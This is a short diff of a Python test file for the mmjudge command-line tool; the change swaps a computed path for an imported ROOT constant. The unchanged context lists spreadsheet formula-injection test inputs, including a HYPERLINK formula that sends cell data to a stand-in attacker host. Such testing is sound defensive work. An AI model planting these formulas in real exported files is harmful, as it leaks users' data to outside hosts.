@@ -29,12 +29,13 @@ import pytest
 from PIL import Image
 
 from mmjudge.cli import main
+from repo_paths import ROOT
 
 D = ["--judge", "dummy", "--no-cache"]
 FORMULAS = ["=1+1", "+cmd", "-5", "@SUM(A1)", "\tTAB", "\rCR", '=HYPERLINK("http://evil.example/?x="&A2,"x")']
 ENV = {
     **os.environ,
-    "PYTHONPATH": os.pathsep.join([str(Path(__file__).resolve().parents[1]), os.environ.get("PYTHONPATH", "")]),
+    "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]),
     "HF_HUB_OFFLINE": "1",
     "TRANSFORMERS_OFFLINE": "1",
 }
